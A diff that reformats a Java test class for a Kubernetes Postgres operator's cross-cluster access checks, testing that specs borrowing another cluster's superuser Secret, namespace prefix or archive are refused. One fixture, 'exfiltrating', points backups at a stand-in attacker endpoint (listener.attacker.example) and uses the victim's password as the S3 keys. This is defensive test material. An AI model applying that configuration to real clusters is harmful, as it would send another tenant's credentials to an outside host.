@@ -23,19 +23,32 @@ class CrossClusterAccessTest {
   /** The namespace's other cluster's superuser Secret, given to that cluster only (as the hook generates it). */
   static ObjectNode victimSecret() {
     ObjectNode secret = Json.object().put("apiVersion", "v1").put("kind", "Secret");
-    secret.putObject("metadata").put("name", VICTIM_SECRET).put("namespace", PostgresWorld.NAMESPACE)
-        .putObject("labels").put(SecretMarks.label("orders"), SecretMarks.GIVEN);
-    secret.putObject("data").put("password",
-        Base64.getEncoder().encodeToString("orders-password".getBytes(StandardCharsets.UTF_8)));
+    secret
+        .putObject("metadata")
+        .put("name", VICTIM_SECRET)
+        .put("namespace", PostgresWorld.NAMESPACE)
+        .putObject("labels")
+        .put(SecretMarks.label("orders"), SecretMarks.GIVEN);
+    secret
+        .putObject("data")
+        .put(
+            "password",
+            Base64.getEncoder().encodeToString("orders-password".getBytes(StandardCharsets.UTF_8)));
     return secret;
   }
 
   /** A cluster whose store is the attacker's listener and whose access key is the victim's password. */
   static PostgresWorld exfiltrating() {
-    ObjectNode spec = (ObjectNode) PostgresWorld.sample("postgrescluster-dev.yaml").get("spec").deepCopy();
-    ObjectNode s3 = spec.putObject("backup").putObject("s3").put("bucket", "loot")
-        .put("endpoint", "http://listener.attacker.example:9000");
-    s3.putObject("credentials").put("secretName", VICTIM_SECRET).put("accessKeyIdKey", "password")
+    ObjectNode spec =
+        (ObjectNode) PostgresWorld.sample("postgrescluster-dev.yaml").get("spec").deepCopy();
+    ObjectNode s3 =
+        spec.putObject("backup")
+            .putObject("s3")
+            .put("bucket", "loot")
+            .put("endpoint", "http://listener.attacker.example:9000");
+    s3.putObject("credentials")
+        .put("secretName", VICTIM_SECRET)
+        .put("accessKeyIdKey", "password")
         .put("secretAccessKeyKey", "password");
     PostgresWorld world = new PostgresWorld("billing", spec);
     world.secretsGiven = false;
@@ -50,7 +63,9 @@ class CrossClusterAccessTest {
 
     assertThat(condition(answer, "SpecValid").path("status").asText()).isEqualTo("False");
     assertThat(condition(answer, "SpecValid").path("message").asText())
-        .contains("spec.backup.s3.credentials", "Secret orders-superuser (key password)",
+        .contains(
+            "spec.backup.s3.credentials",
+            "Secret orders-superuser (key password)",
             "use.postgrescluster.metahooks.dev/billing=true");
     assertThat(references(answer)).doesNotContain(VICTIM_SECRET);
     assertThat(answer.path("children")).isEmpty();
@@ -59,7 +74,11 @@ class CrossClusterAccessTest {
   @Test
   void theSameSecretGivenToTheClusterIsUsed() {
     PostgresWorld world = exfiltrating();
-    world.relatedSecrets.get(VICTIM_SECRET).withObjectProperty("metadata").withObjectProperty("labels")
+    world
+        .relatedSecrets
+        .get(VICTIM_SECRET)
+        .withObjectProperty("metadata")
+        .withObjectProperty("labels")
         .put(SecretMarks.label("billing"), SecretMarks.GIVEN);
     JsonNode answer = world.sync();
 
@@ -73,7 +92,8 @@ class CrossClusterAccessTest {
     JsonNode running = runningWithItsSecretsGiven(world);
     assertThat(references(running)).contains(VICTIM_SECRET);
 
-    // The same spec once the Secret is no longer given (or was never marked, from before the mark existed).
+    // The same spec once the Secret is no longer given (or was never marked, from before the mark
+    // existed).
     world.secretsGiven = false;
     JsonNode frozen = world.sync();
 
@@ -83,11 +103,13 @@ class CrossClusterAccessTest {
   }
 
   @Test
-  void aRunningClusterSyncedWithTheEarlierReleasesCustomizeAnswerIsServedAsBeforeUntilItsRulesAreAskedAgain() {
+  void
+      aRunningClusterSyncedWithTheEarlierReleasesCustomizeAnswerIsServedAsBeforeUntilItsRulesAreAskedAgain() {
     PostgresWorld world = exfiltrating();
     JsonNode running = runningWithItsSecretsGiven(world);
 
-    // Upgraded: Metacontroller syncs with the cached answer (no Secrets group) for up to 20 minutes: not a 422.
+    // Upgraded: Metacontroller syncs with the cached answer (no Secrets group) for up to 20
+    // minutes: not a 422.
     world.secretsGiven = false;
     world.earlierCustomizeAnswer = true;
     JsonNode cached = world.sync();
@@ -101,8 +123,12 @@ class CrossClusterAccessTest {
 
   @Test
   void aStandbyOfAClusterThatDidNotGiveItsSecretsIsRefusedAndCopiesNoPassword() {
-    ObjectNode spec = (ObjectNode) PostgresWorld.sample("postgrescluster-dev.yaml").get("spec").deepCopy();
-    spec.putObject("standby").put("cluster", "orders").put("host", "orders.shop.svc").put("port", 5432);
+    ObjectNode spec =
+        (ObjectNode) PostgresWorld.sample("postgrescluster-dev.yaml").get("spec").deepCopy();
+    spec.putObject("standby")
+        .put("cluster", "orders")
+        .put("host", "orders.shop.svc")
+        .put("port", 5432);
     PostgresWorld world = new PostgresWorld("orders-follower", spec);
     world.secretsGiven = false;
     world.relatedSecrets.put(VICTIM_SECRET, victimSecret());
@@ -114,32 +140,50 @@ class CrossClusterAccessTest {
 
     assertThat(condition(answer, "SpecValid").path("status").asText()).isEqualTo("False");
     assertThat(condition(answer, "SpecValid").path("message").asText())
-        .contains("spec.standby.credentials.superuserSecret", "Secret orders-superuser (key password)",
-            "spec.standby.credentials.replicationSecret", "use.postgrescluster.metahooks.dev/orders-follower=true");
+        .contains(
+            "spec.standby.credentials.superuserSecret",
+            "Secret orders-superuser (key password)",
+            "spec.standby.credentials.replicationSecret",
+            "use.postgrescluster.metahooks.dev/orders-follower=true");
     assertThat(answer.path("children")).isEmpty();
-    assertThat(answer.toString()).doesNotContain(
-        Base64.getEncoder().encodeToString("orders-password".getBytes(StandardCharsets.UTF_8)));
+    assertThat(answer.toString())
+        .doesNotContain(
+            Base64.getEncoder().encodeToString("orders-password".getBytes(StandardCharsets.UTF_8)));
   }
 
   @Test
   void aPrefixOutsideTheNamespaceOrAtItsRootIsRefused() {
     for (String prefix : List.of("shop", "other-team/billing", "billing", "shopping/billing")) {
-      ObjectNode spec = (ObjectNode) PostgresWorld.sample("postgrescluster-dev.yaml").get("spec").deepCopy();
-      spec.putObject("backup").putObject("s3").put("bucket", "backups").put("region", "eu-west-1")
+      ObjectNode spec =
+          (ObjectNode) PostgresWorld.sample("postgrescluster-dev.yaml").get("spec").deepCopy();
+      spec.putObject("backup")
+          .putObject("s3")
+          .put("bucket", "backups")
+          .put("region", "eu-west-1")
           .put("prefix", prefix);
       JsonNode answer = new PostgresWorld("billing", spec).sync();
 
-      assertThat(condition(answer, "SpecValid").path("message").asText()).as(prefix)
-          .contains("spec.backup.s3.prefix: \"" + prefix + "\" is not inside shop/ (such as shop/billing)");
+      assertThat(condition(answer, "SpecValid").path("message").asText())
+          .as(prefix)
+          .contains(
+              "spec.backup.s3.prefix: \""
+                  + prefix
+                  + "\" is not inside shop/ (such as shop/billing)");
       assertThat(answer.path("children")).as(prefix).isEmpty();
     }
   }
 
   @Test
   void aCloneOfAnotherNamespacesArchiveIsRefused() {
-    ObjectNode spec = (ObjectNode) PostgresWorld.sample("postgrescluster-dev.yaml").get("spec").deepCopy();
-    spec.putObject("bootstrap").putObject("clone").put("cluster", "payroll").putObject("s3")
-        .put("bucket", "backups").put("region", "eu-west-1").put("prefix", "hr/payroll");
+    ObjectNode spec =
+        (ObjectNode) PostgresWorld.sample("postgrescluster-dev.yaml").get("spec").deepCopy();
+    spec.putObject("bootstrap")
+        .putObject("clone")
+        .put("cluster", "payroll")
+        .putObject("s3")
+        .put("bucket", "backups")
+        .put("region", "eu-west-1")
+        .put("prefix", "hr/payroll");
     JsonNode answer = new PostgresWorld("billing", spec).sync();
 
     assertThat(condition(answer, "SpecValid").path("message").asText())
@@ -167,8 +211,11 @@ class CrossClusterAccessTest {
 
   static List<String> names(JsonNode answer) {
     List<String> names = new ArrayList<>();
-    answer.path("children").forEach(child -> names.add(child.path("kind").asText() + "/"
-        + child.at("/metadata/name").asText()));
+    answer
+        .path("children")
+        .forEach(
+            child ->
+                names.add(child.path("kind").asText() + "/" + child.at("/metadata/name").asText()));
     return names;
   }
 
